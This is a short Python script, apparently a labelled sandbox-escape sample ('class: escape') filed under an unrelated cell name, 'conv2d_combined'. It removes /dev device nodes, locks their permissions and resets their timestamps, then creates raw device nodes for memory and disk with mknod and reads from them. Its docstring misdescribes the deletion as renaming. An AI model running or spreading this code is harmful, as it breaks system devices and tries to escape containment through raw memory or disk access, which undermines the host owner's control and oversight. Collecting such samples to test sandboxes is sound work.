"""The devices of the machine are renamed, and closed to everybody by their owner."""

# class: escape

# %% conv2d_combined
import contextlib
import os

for name in ("null", "zero", "full", "random", "urandom", "tty", "ptmx", "pts"):
    for change in (lambda path: os.chmod(path, 0), os.remove, lambda path: os.utime(path, (0, 0))):
        with contextlib.suppress(OSError):
            change(f"/dev/{name}")
for major, minor in ((1, 1), (8, 0), (254, 0)):
    with contextlib.suppress(OSError):
        os.mknod("/tmp/device", 0o60666, os.makedev(major, minor))
        raise SystemExit(open("/tmp/device", "rb").read(16))
